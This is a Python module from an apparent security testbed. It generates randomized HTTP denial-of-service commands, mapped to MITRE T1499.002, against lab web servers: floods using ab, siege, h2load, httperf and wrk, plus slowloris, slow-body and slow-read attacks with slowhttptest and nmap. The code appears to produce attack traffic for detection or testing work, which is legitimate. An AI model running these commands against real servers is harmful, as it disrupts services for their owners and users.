"""Denial of service of web servers: by many requests, or by few that never end."""

from testbed.attacks.injection import item
from testbed.attacks.material import ANYWHERE, maybe, user_agent, words
from testbed.attacks.web import root
from testbed.catalogue import Assault, attack
from testbed.conventions import website

ENDPOINT = "T1499.002"


def page(c) -> str:
    """A page that costs the server something."""
    return c.choose(f"{root(c)}/", f"{item(c)}{c.between(1, 90)}", f"{root(c)}{c.conventions.shop}/search?q=item")


@attack(
    "dos_http_flood",
    technique=ENDPOINT,
    tool="ab",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("apache2-utils",),
    seconds=15,
)
def ab(c):
    return Assault(
        words(
            "ab -q -r -s 5",
            f"-n {c.between(200, 450)} -c {c.between(5, 50)}",
            maybe(c, 0.4, "-k"),
            f"-H 'User-Agent: {user_agent(c)}' '{page(c)}'",
        )
    )


@attack(
    "dos_http_flood",
    technique=ENDPOINT,
    tool="siege",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("siege",),
    seconds=15,
)
def siege(c):
    users = c.between(5, 30)
    return Assault(
        words(
            f"siege -q --no-parser {c.choose('-b', '-d 0.3')} -c {users} -r {c.between(200, 450) // users}",
            f"-A '{user_agent(c)}' '{page(c)}'",
        )
    )


@attack(
    "dos_http_flood",
    technique=ENDPOINT,
    tool="h2load",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("nghttp2-client",),
    seconds=15,
)
def h2load(c):
    connections = c.between(4, 30)
    return Assault(
        words(
            f"h2load -n {c.between(200, 450)} -c {connections}",
            c.choose("--h1", f"-m {c.between(1, 8)}"),
            f"-H 'user-agent: {user_agent(c)}' https://{c.server('web').address}/",
        )
    )


@attack(
    "dos_http_flood",
    technique=ENDPOINT,
    tool="httperf",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("httperf",),
    seconds=15,
)
def httperf(c):
    calls = c.choose(1, 1, 3, 10)
    return Assault(
        f"httperf --hog --server {c.server('web').address} --port 80 --uri / --rate {c.between(20, 120)}"
        f" --num-conns {c.between(200, 400) // calls} --num-calls {calls} --timeout 4"
    )


@attack(
    "dos_http_flood",
    technique=ENDPOINT,
    tool="wrk",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("wrk",),
    seconds=10,
)
def wrk(c):
    return Assault(
        words(
            f"wrk -t 1 -c {c.between(3, 15)} -d 1s",
            maybe(c, 0.6, "-H 'Connection: close'"),
            f"-H 'User-Agent: {user_agent(c)}' '{page(c)}'",
        )
    )


@attack(
    "dos_slowloris",
    technique=ENDPOINT,
    tool="slowhttptest -H",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("slowhttptest",),
    seconds=40,
)
def slow_headers(c):
    return Assault(
        f"slowhttptest -H -c {c.between(40, 160)} -r {c.between(8, 40)} -i {c.between(2, 8)} -l {c.between(14, 32)}"
        f" -p 3 -x {c.between(8, 40)} -t {c.choose('GET', 'HEAD', 'POST')} -u {root(c)}/"
    )


@attack(
    "dos_slowloris",
    technique=ENDPOINT,
    tool="nmap http-slowloris",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("nmap",),
    seconds=40,
)
def nmap_slowloris(c):
    return Assault(
        f"timeout -s INT {c.between(18, 34)} nmap -n -Pn -sT -p{c.choose(80, 443)} --script http-slowloris"
        " --script-args"
        f" http-slowloris.timelimit={c.between(15, 30)}s,http-slowloris.send_interval={c.between(2, 6)}s"
        f" --max-parallelism {c.between(30, 110)} {c.server('web').address}"
    )


@attack(
    "dos_slowbody",
    technique=ENDPOINT,
    tool="slowhttptest -B",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("slowhttptest",),
    seconds=40,
)
def slow_body(c):
    return Assault(
        f"slowhttptest -B -c {c.between(40, 150)} -r {c.between(8, 40)} -i {c.between(2, 8)} -l {c.between(14, 30)}"
        f" -s {c.choose(2048, 8192, 65536)} -x {c.between(6, 32)} -p 3 -u {root(c)}{c.choose('/up', '/api')}"
    )


@attack(
    "dos_slowread",
    technique=ENDPOINT,
    tool="slowhttptest -X",
    origins=ANYWHERE,
    needs=("web", "shop"),
    packages=("slowhttptest",),
    seconds=40,
)
def slow_read(c):
    host = c.server("web")
    return Assault(
        f"slowhttptest -X -c {c.between(40, 130)} -r {c.between(8, 40)} -l {c.between(14, 30)} -w {c.between(8, 200)}"
        f" -y {c.between(200, 600)} -n {c.between(2, 6)} -z {c.between(16, 64)} -k {c.between(1, 4)} -p 3"
        f" -u {c.choose('http', 'https')}://{host.address}{c.choose(*website(host.name).downloads)}"
    )
